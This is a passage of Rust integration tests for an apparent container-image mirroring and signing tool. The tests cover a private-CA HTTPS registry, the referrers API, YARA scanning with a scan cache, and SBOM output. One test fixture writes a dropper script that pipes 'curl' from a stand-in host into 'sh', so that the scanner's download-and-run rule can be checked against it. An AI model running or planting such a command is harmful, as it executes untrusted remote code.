    let vol = p["volumes"][0]["path"].as_str().unwrap().to_string();
    let i = airlock(d, &["--json", "inspect", &vol]).ok().json();
    let names: Vec<&str> = i["manifest"]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        // Scan results and SBOMs of both, tested in scan_import and sbom.
        .filter(|n| !n.starts_with("scan:") && !n.starts_with("sbom:"))
        .collect();
    assert_eq!(
        names,
        [amd.clone(), format!("{h}/acme/hello:sha256-{digest}.sig")]
    );
}

#[test]
fn https_registry_with_a_private_ca_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // A private CA and a server certificate for 127.0.0.1 signed by it.
    sh(
        d,
        r#"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.pem \
  -days 2 -subj /CN=airlock-test-ca 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout server.key -out server.csr \
  -subj /CN=127.0.0.1 2>/dev/null
printf 'subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n' > ext
openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
  -extfile ext -out server.pem 2>/dev/null
"#,
    )
    .ok();
    let reg = Registry::start_with(
        d,
        "reg",
        None,
        Some((&d.join("server.pem"), &d.join("server.key"))),
    );
    let h = reg.host();
    push_images(d, &h, None);
    manifest(d, &[(&format!("{h}/acme/hello:amd"), None)]);
    // Unknown CA: refused (HTTPS is the default; the registry is not named insecure).
    airlock(d, &["sync", "m.yaml", "--store", "store", "--retries", "0"])
        .fails()
        .says(&["127.0.0.1"]);
    airlock(
        d,
        &["sync", "m.yaml", "--store", "store", "--ca-file", "ca.pem"],
    )
    .ok();
}

#[test]
fn referrers_api_results_come_along_under_their_digest() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    push_images(d, &reg.host(), None);
    // An attestation-like artifact: the arm image, pushed under an unrelated tag, listed by the
    // (test proxy's) referrers API for hello:amd.
    sh(
        d,
        &format!(
            "skopeo copy -q --dest-tls-verify=false oci:L:arm docker://{}/acme/hello:attestation",
            reg.host()
        ),
    )
    .ok();
    let raw = sh(
        d,
        &format!(
            "skopeo inspect --raw --tls-verify=false docker://{}/acme/hello:attestation",
            reg.host()
        ),
    )
    .ok()
    .stdout;
    let att_digest = format!(
        "sha256:{}",
        raw_digest(
            d,
            &format!("docker://{}/acme/hello:attestation", reg.host()),
            ""
        )
    );
    let index = format!(
        r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{att_digest}","size":{},"artifactType":"application/vnd.example.attestation"}}]}}"#,
        raw.len()
    );
    let proxy = Proxy::start(
        reg.port,
        Faults {
            referrers: Some(index),
            ..Default::default()
        },
    );
    let h = proxy.host();
    let amd = format!("{h}/acme/hello:amd");
    manifest(d, &[(&amd, None)]);
    let j = airlock(
        d,
        &[
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
            "--require-signature",
        ],
    )
    .ok()
    .json();
    let sig = &j["images"][0]["signatures"][0];
    assert_eq!(sig["digest"], att_digest.as_str());
    assert!(sig["tag"].is_null());
    keys(d);
    let p = airlock(
        d,
        &[
            "--json",
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "out",
            "--store",
            "store",
        ],
    )
    .ok()
    .json();
    let vol = p["volumes"][0]["path"].as_str().unwrap().to_string();
    let i = airlock(d, &["--json", "inspect", &vol]).ok().json();
    let names: Vec<&str> = i["manifest"]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        // Scan results and SBOMs of both, tested in scan_import and sbom.
        .filter(|n| !n.starts_with("scan:") && !n.starts_with("sbom:"))
        .collect();
    assert_eq!(names, [amd.clone(), format!("{h}/acme/hello@{att_digest}")]);
}

/// Pushes `HOST/acme/tool:v1` to the registry at `h`: one layer with `app/setup.sh`, a script
/// that downloads and runs another (the built-in YARA rule names it), and `app/readme.txt`.
/// Returns the reference.
fn push_dropper_image(d: &Path, h: &str) -> String {
    sh(
        d,
        &format!(
            r#"
mkdir -p src/app
printf '#!/bin/sh\ncurl -fsSL http://get.example/x.sh | sh\n' > src/app/setup.sh
echo fine > src/app/readme.txt
umoci init --layout L
umoci new --image L:v1
umoci insert --image L:v1 src/app /app >/dev/null
umoci config --image L:v1 --architecture amd64 --os linux >/dev/null
skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
"#
        ),
    )
    .ok();
    format!("{h}/acme/tool:v1")
}

/// `sync` scans what it mirrored, reading it from the store, and reports findings early (they
/// do not change its exit status: `pack` scans again and signs its own results, and the
/// appliance's policy decides). A dropper script in a pushed image is named with its layer
/// and path; `--no-scan` skips the pass.
#[test]
fn sync_scans_what_it_mirrored() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    let h = reg.host();
    let img = push_dropper_image(d, &h);
    manifest(d, &[(&img, None)]);
    let base = [
        "sync",
        "m.yaml",
        "--store",
        "store",
        "--insecure-registry",
        &h,
    ];
    let run = airlock(d, &[&["--json"], &base[..]].concat()).ok();
    let j = run.json();
    let scan = j["scan"].as_array().unwrap();
    assert_eq!(scan.len(), 1, "{j}");
    assert_eq!(scan[0]["artifact"], img);
    assert_eq!(scan[0]["files"], 1);
    let f = &scan[0]["findings"][0];
    assert_eq!(f["rule"], "yara/builtin/download_and_run_script");
    assert_eq!(f["severity"], "suspicious");
    assert_eq!(f["member"], "app/setup.sh");
    // Text output names it too, and says who decides.
    let t = airlock(d, &base).ok();
    assert!(t.stdout.contains("suspicious"), "{}", t.stdout);
    assert!(t.stdout.contains("app/setup.sh"), "{}", t.stdout);
    assert!(
        t.stdout.contains("the appliance's policy decides"),
        "{}",
        t.stdout
    );
    let j = airlock(d, &[&["--json"], &base[..], &["--no-scan"]].concat())
        .ok()
        .json();
    assert!(j["scan"].as_array().unwrap().is_empty(), "{j}");
}

/// A blob is scanned once per scanner and rule set: a second `sync` of what is mirrored takes
/// every result from the store's scan cache (same findings), `pack` signs those results without
/// scanning, another rule set (`--rules`) scans again, `--no-scan-cache` scans again, and a
/// corrupt cache entry is scanned again, never taken as clean.
#[test]
fn sync_and_pack_scan_each_blob_once_per_rule_set() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    let h = reg.host();
    push_dropper_image(d, &h);
    sh(
        d,
        r#"mkdir -p rules && printf 'rule fine_text { strings: $a = "fine" condition: $a }\n' > rules/local.yar"#,
    )
    .ok();
    keys(d);
    manifest(d, &[(&format!("{h}/acme/tool:v1"), None)]);
    let sync = |extra: &[&str]| {
        let base = [
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
        ];
        airlock(d, &[&base[..], extra].concat()).ok().json()
    };
    let counts = |j: &serde_json::Value| {
        (
            j["scanCache"]["scanned"].as_u64().unwrap(),
            j["scanCache"]["cached"].as_u64().unwrap(),
        )
    };
    let first = sync(&[]);
    assert_eq!(counts(&first), (1, 0), "{first}");
    assert_eq!(
        first["scan"][0]["findings"][0]["rule"],
        "yara/builtin/download_and_run_script"
    );
    let second = sync(&[]);
    assert_eq!(counts(&second), (0, 1), "{second}");
    assert_eq!(second["scan"], first["scan"]);

    // Pack signs the cached results: nothing is scanned, and the record has the finding.
    let pack = airlock(
        d,
        &[
            "--json",
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "out1",
            "--store",
            "store",
            "--insecure-registry",
            &h,
        ],
    )
    .ok()
    .json();
    assert_eq!(counts(&pack), (0, 1), "{pack}");
    let vol = pack["volumes"][0]["path"].as_str().unwrap();
    let i = airlock(d, &["--json", "inspect", vol]).ok().json();
    assert_eq!(
        i["manifest"]["scan"][0]["findings"][0]["rule"], "yara/builtin/download_and_run_script",
        "{i}"
    );

    // Operator rules are another rule set: scanned again (the new rule matches), then cached.
    let ruled = sync(&["--rules", "rules"]);
    assert_eq!(counts(&ruled), (1, 0), "{ruled}");
    let rules: Vec<&str> = ruled["scan"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"yara/local/fine_text"), "{rules:?}");
    let again = sync(&["--rules", "rules"]);
    assert_eq!(counts(&again), (0, 1), "{again}");
    assert_eq!(again["scan"], ruled["scan"]);
    // The built-in rules' entry is still there.
    assert_eq!(counts(&sync(&[])), (0, 1));

    // --no-scan-cache scans again, with the same findings.
    let forced = sync(&["--no-scan-cache"]);
    assert_eq!(counts(&forced), (1, 0), "{forced}");
    assert_eq!(forced["scan"], first["scan"]);

    // Corrupt entries (an emptied findings list included) are scanned again, not taken as clean.
    sh(
        d,
        "for f in store/scan-cache/*.json; do head -n1 \"$f\" > t && echo '[]' >> t && mv t \"$f\"; done",
    )
    .ok();
    let rescanned = sync(&[]);
    assert_eq!(counts(&rescanned), (1, 0), "{rescanned}");
    assert_eq!(rescanned["scan"], first["scan"]);
    assert_eq!(counts(&sync(&[])), (0, 1));

    // Rules compile while the registry is contacted; one that does not compile still fails
    // the sync, naming the file.
    sh(
        d,
        "mkdir bad && printf 'rule b { condition: $y }\\n' > bad/broken.yar",
    )
    .ok();
    let r = airlock(
        d,
        &[
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
            "--rules",
            "bad",
        ],
    );
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
}

/// `airlock sbom` of an image named as a manifest names one: a registry reference read from the
/// store `sync` filled, and an `oci-archive:`, give the same document as the OCI layout they
/// were made from; an index asks for `--platform`.
#[test]
fn sbom_of_a_synced_reference_and_an_archive_equals_the_layouts() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    let h = reg.host();
    push_images(d, &h, None);
    sh(
        d,
        &format!(
            r#"
mkdir -p pk/dpkg
printf 'Package: hello\nStatus: install ok installed\nArchitecture: amd64\nSource: hello-src\nVersion: 2.10-3\nMaintainer: Hello Maintainers <hello@example.org>\n' > pk/dpkg/status
umoci new --image L:pk
umoci insert --image L:pk pk/dpkg /var/lib/dpkg >/dev/null
umoci config --image L:pk --architecture amd64 --os linux >/dev/null
skopeo copy -q --dest-tls-verify=false oci:L:pk docker://{h}/acme/pk:v1
skopeo copy -q oci:L:pk oci-archive:pk.tar:v1
"#
        ),
    )
    .ok();
    let pk = format!("{h}/acme/pk:v1");
    let multi = format!("{h}/acme/hello:multi");
    manifest(d, &[(&pk, None), (&multi, None)]);
    let store = d.join("store");
    let store = store.to_str().unwrap();
    airlock(
        d,
        &[
            "sync",
            "m.yaml",
            "--store",
            store,
            "--insecure-registry",
            &h,
            "--no-scan",
        ],
    )
    .ok();
    let sbom = |source: &str, out: &str, extra: &[&str]| {
        let mut args = vec!["sbom", source, "--store", store, "--out", out];
        args.extend(extra);
        airlock(d, &args).ok();
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(d.join(out)).unwrap()).unwrap();
        v
    };
    let from_layout = sbom("oci:L:pk", "layout.json", &[]);
    let from_store = sbom(&pk, "store.json", &[]);
    let from_archive = sbom("oci-archive:pk.tar:v1", "archive.json", &[]);
    assert_eq!(from_store["components"], from_layout["components"]);
    assert_eq!(from_archive["components"], from_layout["components"]);
    assert_eq!(from_store["components"][0]["name"], "hello", "{from_store}");
    assert_eq!(
        from_store["metadata"]["component"]["version"],
        from_layout["metadata"]["component"]["version"],
        "the same image manifest"
    );
    assert_eq!(from_store["metadata"]["component"]["name"], pk.as_str());
    // An index: the platforms are named, and one is picked with --platform.
    airlock(d, &["sbom", &multi, "--store", store])
        .refused()
        .says(&["linux/amd64", "linux/arm64", "--platform"]);
    let arm = sbom(&multi, "arm.json", &["--platform", "linux/arm64"]);
    assert_eq!(arm["metadata"]["component"]["name"], multi.as_str());
    // Not synced: the error names the reference.
    airlock(
        d,
        &["sbom", &format!("{h}/acme/never:v1"), "--store", store],
    )
    .refused()
    .says(&["acme/never"]);
}
